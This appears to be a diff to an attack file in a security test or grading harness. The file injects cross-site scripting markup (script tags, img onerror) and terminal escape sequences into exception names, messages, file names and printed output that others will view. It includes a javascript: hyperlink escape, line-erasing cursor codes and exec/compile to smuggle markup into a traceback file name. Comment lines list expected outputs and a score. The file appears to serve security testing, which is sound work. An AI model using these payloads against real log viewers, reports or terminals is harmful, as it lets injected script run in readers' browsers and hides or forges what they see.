@@ -1,5 +1,8 @@
 # Puts markup and terminal codes into exception names, messages, file names and printed text that others will read.
 # earns: 4
+# shows: for \[\] came <script>alert\('@TOKEN@'\)</script>
+# shows: SystemError
+# shows: </pre></div><script>
 
 # %% attack answer chunked
 MARKUP = "<script>alert('@TOKEN@')</script><img src=x onerror=alert('@TOKEN@')>"
@@ -15,7 +18,7 @@ def chunked(iterable, size):
 
 # %% attack answer windows
 print("\x1b]8;;javascript:alert('@TOKEN@')\x07click\x1b]8;;\x07", MARKUP, "\r\x1b[1A\x1b[2K")
-raise SystemError("</pre></div>" + MARKUP)
+exec(compile("raise SystemError('</pre></div>' + MARKUP)", MARKUP, "exec"))
 
 # %% attack traces
 found = "; ".join(f"page {number} runs it" for number, page in enumerate(pages()) if "@TOKEN@" in live(page))
